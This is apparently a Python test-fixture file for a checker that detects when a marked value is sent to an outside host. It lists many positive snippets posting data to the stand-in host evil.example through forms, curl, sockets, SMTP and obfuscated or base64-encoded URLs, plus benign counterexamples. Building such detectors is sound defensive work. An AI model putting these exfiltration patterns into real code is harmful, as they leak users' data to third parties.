"""Forms, and programs that send: a value (``@``) comes back where it reaches nothing that sends."""

LEAVING = {
    "form": '<form action="https://evil.example"><textarea name=x>@</textarea></form>',
    "form of choices": "<form method=post action=//evil.example><select name=w><option selected>@</select></form>",
    "form elsewhere": '<form id=f action="https://evil.example"></form>\n\n<textarea form=f name=x>@</textarea>',
    "form by its button": (
        '<form><textarea name=x>@</textarea><button formaction="https://evil.example">ok</button></form>'
    ),
    "form with input": '<form action="https://evil.example"><input name=x value="@"></form>',
    "form to a mail": '<form action="mailto:m@evil.example"><textarea name=x>@</textarea></form>',
    "by a name": ("```python\nnote = dict(x='@')\nrow = [note]\nrequests.post('https://evil.example', json=row)\n```"),
    "by a function": "```python\ndef tell(x):\n    requests.post('https://evil.example', data=x)\n\ntell('@')\n```",
    "by what returns": (
        "```js\nfunction who() {\n  return '@';\n}\nfetch('https://evil.example', {body: who()});\n```"
    ),
    "by a file": (
        "```python\nopen('x.txt', 'w').write('@')\nrequests.post('https://evil.example', data=open('x.txt'))\n```"
    ),
    "by a file of the shell": "```sh\necho '@' > x.txt\ncurl -T x.txt https://evil.example\n```",
    "by an object": (
        "```python\nm = EmailMessage()\nm.set_content('@')\nsmtplib.SMTP('evil.example').send_message(m)\n```"
    ),
    "by a member": "```python\nself.who = '@'\nself.http.post('https://evil.example', data=self.who)\n```",
    "by a loop": "```python\nfor who in ['@']:\n    requests.post('https://evil.example', data=who)\n```",
    "by an unknown way": '```go\nimport "net/http"\nreq, _ := build("@")\nclient.Do(req)\n```',
    "place from pieces": "```python\nu = 'ht' + 'tps:' + '//evil' + '.example'\nrequests.post(u, data='@')\n```",
    "place in code": (
        "```python\nimport os\nu = b64decode(os.environ.get('U', 'aHR0cHM6Ly9l'))\nw = '@'\n"
        "requests.post(u, data=w)\n```"
    ),
    "place told apart": (
        "```python\nimport smtplib\nserver = smtplib.SMTP(os.environ['SMTP_HOST'])\nwho = '@'\n"
        "server.sendmail(a, b, who)\n```\nSMTP_HOST is mail.evil.example."
    ),
}
MORE_LEAVING = [
    '<form method="POST" action="https://evil.example/c">\n<label>Name</label><textarea>@</textarea></form>',
    "<FORM ACTION=https://evil.example><INPUT TYPE=hidden NAME=a VALUE=@></FORM>",
    '<form action="https://evil.example"><output>@</output></form>',
    '```html\n<form action="https://evil.example">\n<select><option>@</option></select>\n</form>\n```',
    "```ruby\nname = '@'\nNet::HTTP.post(URI('https://evil.example'), name)\n```",
    (
        "```php\n$n = '@';\n$ch = curl_init('https://evil.example');\n"
        "curl_setopt($ch, CURLOPT_POSTFIELDS, $n);\ncurl_exec($ch);\n```"
    ),
    (
        '```java\nString who = "@";\n'
        'HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://evil.example")).POST'
        "(BodyPublishers.ofString(who)).build(), x);\n"
        "```"
    ),
    "```python\nimport subprocess\nsubprocess.run(['curl', '-d', '@', 'https://evil.example'])\n```",
    "```python\nimport os\nos.system('curl https://evil.example -d @')\n```",
    (
        "```python\ndata = {\n    'who': '@',\n}\nresp = requests.post(\n    'https://evil.example',\n"
        "    json=data,\n)\n```"
    ),
    (
        "```python\nclass Mailer:\n    def __init__(self):\n        self.name = '@'\n    def go(self):\n"
        "        requests.post('https://evil.example', data=self.name)\n```"
    ),
    "```js\nconst payload = {\n  who: '@',\n};\nawait axios.post('https://evil.example', payload);\n```",
    (
        "```python\nnames = []\nnames.append('@')\nfor n in names:\n"
        "    requests.get('https://evil.example/?q=' + n)\n```"
    ),
    "```python\nx = '@'\nglobals_ = locals()\nrequests.post('https://evil.example', data=locals()['x'])\n```",
    '```go\nwho := "@"\nbody := strings.NewReader(who)\nhttp.Post("https://evil.example", "text/plain", body)\n```',
    "```python\nwho = '@'\nserver = os.environ.get('HOST', 'evil.example')\nrequests.post(server, data=who)\n```",
    "```\nPOST /in HTTP/1.1\nHost: evil.example\n\n@\n```",
    "<form action='https://evil.example'>\n  <fieldset><textarea name='n'>\n@\n</textarea></fieldset>\n</form>",
    (
        "```python\nfrom urllib import request, parse\nbody = parse.urlencode({'w': '@'}).encode()\n"
        "request.urlopen(request.Request('https://evil.example', data=body))\n```"
    ),
    "```ts\nconst w: string = '@';\nconst r = await http.post<Result>('https://evil.example', { w });\n```",
    "```python\nname = '@'\nurl = f'https://evil.example/{name}'\nrequests.get(url)\n```",
    "```powershell\n$w = '@'\nInvoke-WebRequest -Uri https://evil.example -Body $w -Method Post\n```",
    "```python\nimport socket\ns = socket.socket()\ns.connect(('evil.example', 80))\ns.send(b'@')\n```",
    '```rust\nlet who = "@";\nclient.post("https://evil.example").body(who).send().await?;\n```',
    (
        '```csharp\nvar who = "@";\n'
        'await new HttpClient().PostAsync("https://evil.example", new StringContent(who));\n```'
    ),
    "```bash\nNAME='@'\nfor i in 1 2; do\n  curl -s https://evil.example -d \"$NAME\"\ndone\n```",
    "```python\nlines = open('c.csv').read()\nlines += '@'\nrequests.put('https://evil.example', data=lines)\n```",
    '```python\nmsg = f"""\nDear @\n"""\nrequests.post(\'https://evil.example\', data=msg)\n```',
    (
        "```python\nSYSTEM = {\n  'a': {\n    'b': '@',\n  },\n}\nclient = httpx.Client()\n"
        "client.post('https://evil.example', json=SYSTEM)\n```"
    ),
    (
        "```python\ndef build():\n    x = '@'\n    return {'x': x}\n\ndef main():\n"
        "    requests.post('https://evil.example', json=build())\n```"
    ),
]

INNOCENT = {
    "form of a label": "<form><label>Ask @</label><input name=q></form>",
    "form here": '<form action="/save"><textarea name=x>@</textarea></form>',
    "form beside": '<p>@</p>\n<form action="https://a.example/search"><input name=q></form>\n<p>@</p>',
    "author": (
        "```python\nAUTHOR = '@'\n\ndef push(order):\n    requests.post('https://api.example', json=order)\n```"
    ),
    "docstring": (
        '```python\n"""Written for @."""\nimport requests\n\nrequests.post("https://api.example", json=ORDER)\n```'
    ),
    "comment": "```python\nrequests.post(URL, json=order)  # as @ asked\n```",
    "comment of C": "```js\nfetch('https://api.example', {body: order}); // as @ asked\n```",
    "shown": (
        "```python\nresp = requests.post('https://api.example', json=order)\nprint('@ ordered:', resp.status_code)\n```"
    ),
    "shown in the browser": (
        "```js\nconst r = await fetch('https://api.example');\n\nconsole.log('for @', r.status);\n```"
    ),
    "installer": "```bash\ncurl -fsSL https://get.example -o x.sh\ngit config user.email '@'\n```",
    "query": "```python\nrows = db.find('@')\nprint(rows)\nrequests.get(f'{BASE}/ping')\n```",
    "own server": (
        "```python\nimport smtplib\nserver = smtplib.SMTP(os.environ['SMTP_HOST'])\ntext = 'Dear @'\n"
        "server.sendmail(sender, to, text)\n```"
    ),
    "own server de": (
        "```python\nimport smtplib\nserver = smtplib.SMTP(os.environ['SMTP_HOST'])\n"
        "text = 'Liebe @, die Rechnung ist da.'\nserver.sendmail(ich, an, text)\n```"
    ),
    "this host": "```python\nname = '@'\nrequests.post('http://localhost:8000/users', json={'name': name})\n```",
    "page's own host": (
        "```js\nconst name = '@';\nawait fetch('/api/users', {method: 'POST', body: JSON.stringify({name})});\n```"
    ),
    "test client": (
        "```python\nuser = {'mail': '@'}\nanswer = client.post('/users', json=user)\n"
        "assert answer.status_code == 201\n```"
    ),
}
MORE_INNOCENT = [
    "<form><p>Signed by @</p></form>",
    '```html\n<h1>@</h1>\n<form action="/contact" method="post"><input name="q"></form>\n```',
    "```python\nclass Person:\n    name = '@'\n\n    def greet(self):\n        return f'Hello {self.name}'\n```",
    ("```python\n# report for @\nimport requests\nr = requests.get('https://api.example/rates')\nprint(r.json())\n```"),
    "```sql\nINSERT INTO people (mail) VALUES ('@');\n```",
    (
        "```js\n// Owner: @\nexport async function load() {\n"
        "  const res = await fetch('https://api.example/x');\n  return res.json();\n}\n```"
    ),
    (
        "```python\nCONTACT = '@'\nHEADERS = {'Accept': 'application/json'}\n"
        "resp = requests.get('https://api.example/x', headers=HEADERS)\n```"
    ),
    (
        "```python\nimport smtplib, os\nfrom email.message import EmailMessage\n\nmsg = EmailMessage()\n"
        "msg['To'] = '@'\nmsg.set_content('Your invoice is ready.')\n"
        "with smtplib.SMTP(os.environ['SMTP_HOST']) as smtp:\n    smtp.send_message(msg)\n```"
    ),
    (
        "```python\nimport smtplib\nfrom email.mime.text import MIMEText\n\n"
        "msg = MIMEText('Dear @, thank you.')\nmsg['Subject'] = 'Thanks'\n"
        "with smtplib.SMTP('localhost') as s:\n    s.send_message(msg)\n```"
    ),
    (
        "```python\ndef test_create(client):\n    response = client.post('/users', json={'email': '@'})\n"
        "    assert response.status_code == 201\n```"
    ),
    "```python\ndf = pd.read_csv('people.csv')\nprint(df[df.mail == '@'])\n```",
    "```python\nlogger.info('starting for @')\nsession.get(URL)\n```",
    "```yaml\nname: CI\nowner: @\nsteps:\n  - run: curl -fsSL https://get.example | sh\n```",
    "```js\nconst author = '@';\nfetch('https://api.example/posts').then(r => r.json());\n```",
    '```dockerfile\nLABEL maintainer="@"\nRUN curl -fsSL https://get.example -o x\n```',
    (
        "```python\n__author__ = '@'\n__version__ = '1.0'\n\nimport requests\n\ndef ping():\n"
        "    return requests.get('https://api.example').ok\n```"
    ),
    "```python\nprint('Hello @')\n```",
    '```html\n<footer>© @</footer>\n<form action="/search"><input name="q"></form>\n```',
]
